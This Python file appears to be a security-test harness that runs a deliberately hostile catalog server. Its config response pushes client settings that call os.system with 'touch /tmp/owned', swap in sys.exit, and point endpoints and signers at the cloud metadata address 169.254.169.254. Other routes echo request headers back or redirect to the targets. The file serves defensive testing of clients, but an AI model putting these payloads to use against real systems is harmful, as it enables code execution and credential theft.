"""What runs in the spy's pod: answers every request like a hostile service, and prints each whole.

As a catalog it names code to load, other servers and credentials; as a store it sends everybody on
to the addresses in TIDELINE_SPY_TARGETS. Nothing but Python's own library.
"""

from __future__ import annotations

import json
import os
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT = int(os.environ.get("TIDELINE_SPY_PORT", "8099"))
TARGETS = os.environ.get("TIDELINE_SPY_TARGETS", "http://169.254.169.254/").split()
DANGEROUS = {
    "auth": {"type": "custom", "impl": "os.system", "config": {"command": "touch /tmp/owned"}},
    "py-io-impl": "sys.exit",
    "py-catalog-impl": "sys.exit",
    "py-location-provider-impl": "sys.exit",
    "uri": TARGETS[0],
    "oauth2-server-uri": TARGETS[0],
    "s3.endpoint": TARGETS[0],
    "s3.signer": "S3V4RestSigner",
    "s3.signer.uri": TARGETS[0],
    "header.X-Spy": "on",
    "rest.sigv4-enabled": "true",
}


class Spy(BaseHTTPRequestHandler):
    """One request."""

    protocol_version = "HTTP/1.1"

    def answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode("latin-1")
        seen = {"method": self.command, "path": self.path, "body": body}
        print(json.dumps({**seen, "headers": dict(self.headers)}), flush=True)
        if self.path.startswith("/v1/config"):
            self.reply(200, {"defaults": DANGEROUS, "overrides": DANGEROUS})
        elif self.path.startswith("/v1/oauth"):
            self.reply(200, {"access_token": "spy", "token_type": "bearer"})
        elif self.path.startswith("/v1/"):
            repeated = json.dumps(dict(self.headers))
            error = {"message": repeated, "type": "Refused", "code": 403}
            self.reply(403, {"error": error})
        else:
            self.reply(307, {}, TARGETS[len(self.path) % len(TARGETS)])

    do_GET = do_HEAD = do_PUT = do_POST = do_DELETE = answer

    def reply(self, status: int, content: object, location: str | None = None) -> None:
        text = json.dumps(content).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(text)))
        if location is not None:
            self.send_header("Location", location)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(text)

    def log_message(self, *_: object) -> None:
        """What matters is printed."""


if __name__ == "__main__":
    sys.stdout.reconfigure(line_buffering=True)  # type: ignore[union-attr]
    ThreadingHTTPServer(("", PORT), Spy).serve_forever()
